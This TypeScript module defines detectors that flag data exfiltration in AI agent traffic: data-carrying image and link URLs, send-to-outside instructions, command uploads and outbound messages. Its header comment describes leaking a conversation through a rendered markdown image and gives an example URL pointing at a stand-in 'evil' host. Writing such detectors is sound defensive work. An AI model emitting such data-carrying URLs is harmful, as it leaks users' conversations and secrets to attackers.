import type { Detector, DetectorMatch, FieldRole } from '../detector.js';
import { findCommandExfiltration } from './text/command-exfil.js';
import { findPhrases, MAX_MATCHES, scanWindow } from './text/find-phrases.js';
import { findOutboundLeak } from './text/outbound-message.js';
import { SEND_PHRASES } from './text/send-phrases.js';
import { findImageSites, findLinkSites, type UrlSite } from './text/url-extract.js';
import { EXFIL_THRESHOLD, scoreUrl, type UrlPlace } from './text/url-payload.js';

/**
 * Exfiltration: URLs that carry the conversation or secrets out (a rendered image is fetched with
 * no click at all), and instructions to send data to an outside address. Arguments are included:
 * an agent posting `![](https://evil/?d=...)` in a comment, or fetching such a URL, is the act itself.
 */

const URL_ROLES: readonly FieldRole[] = ['response', 'prompt', 'metadata', 'argument'];
const TEXT_ROLES: readonly FieldRole[] = ['response', 'prompt', 'metadata'];
/** What the agent itself sends: tool-call arguments (and metadata, where some producers put them). */
const ACTION_ROLES: readonly FieldRole[] = ['argument', 'metadata'];

function scoreSites(sites: readonly UrlSite[], place: UrlPlace, what: string): DetectorMatch[] {
  const matches: DetectorMatch[] = [];
  for (const site of sites) {
    const { score, reasons } = scoreUrl(site.url, place);
    if (score < EXFIL_THRESHOLD) continue;
    matches.push({
      start: site.start,
      end: site.end,
      detail: `${what} carrying data: ${reasons.join(', ')}`,
    });
    if (matches.length >= MAX_MATCHES) break;
  }
  return matches;
}

export const exfiltrationDetectors: readonly Detector[] = [
  {
    id: 'exfiltration.image-url',
    roles: URL_ROLES,
    detect: (field) =>
      scoreSites(findImageSites(scanWindow(field.value)), { image: true, outbound: false }, 'image URL'),
  },
  {
    id: 'exfiltration.link-url',
    roles: URL_ROLES,
    detect: (field) =>
      scoreSites(
        findLinkSites(scanWindow(field.value)),
        { image: false, outbound: ACTION_ROLES.includes(field.role) },
        'URL',
      ),
  },
  {
    id: 'exfiltration.send-instruction',
    roles: TEXT_ROLES,
    detect: (field) => findPhrases(scanWindow(field.value), SEND_PHRASES),
  },
  {
    id: 'exfiltration.command-upload',
    roles: ACTION_ROLES,
    detect: (field) => findCommandExfiltration(scanWindow(field.value)),
  },
  {
    id: 'exfiltration.outbound-message',
    roles: ACTION_ROLES,
    detect: (field, context) => findOutboundLeak(field, context.tool, scanWindow(field.value)),
  },
];
